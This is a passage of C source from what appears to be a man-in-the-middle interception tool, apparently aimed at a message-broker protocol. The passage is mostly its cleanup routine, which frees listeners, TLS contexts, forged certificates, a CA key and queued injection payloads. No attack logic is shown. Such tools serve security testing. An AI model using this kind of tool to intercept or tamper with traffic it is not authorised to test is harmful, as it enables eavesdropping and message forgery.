	st->gate_refused = m->gate.refused;
}

const char *mitm_listen_addr(const struct mitm *m)
{
	return m->listen_str;
}

void mitm_free(struct mitm *m)
{
	if (!m)
		return;
	/* Freeing is not stopping: no events go to an observer that is being torn down. */
	while (m->victims)
		victim_destroy(m->victims);
	if (m->deadline)
		event_free(m->deadline);
	if (m->lst)
		evconnlistener_free(m->lst);
	if (m->fetch)
		upstream_fetch_free(m->fetch);
	if (m->log_flush)
		event_free(m->log_flush);
	if (m->log)
		fclose(m->log);
	if (m->log_path && !m->started)
		unlink(m->log_path);
	free(m->log_path);
	mq_str_free(&m->line);
	SSL_CTX_free(m->srv_ctx);
	SSL_CTX_free(m->up_ctx);
	SSL_CTX_free(m->fetch_ctx);
	forge_free(&m->forged);
	free(m->upstream_host);
	free(m->clone_file);
	free(m->clone_host);
	free(m->ca_cert);
	free(m->ca_key);
	for (size_t i = 0; m->names && i < m->fopts.n_names; i++)
		free(m->names[i]);
	free(m->names);
	for (size_t i = 0; i < m->n_inject; i++) {
		free((char *)m->inject[i].topic);
		free((char *)m->inject[i].payload);
	}
	free(m->inject);
	for (size_t i = 0; i < m->n_kept; i++)
		kept_clear(&m->kept[i]);
	free(m->kept);
	for (size_t i = 0; i < m->n_retained; i++)
		kept_clear(&m->retained[i]);
	free(m->retained);
	free(m);
}
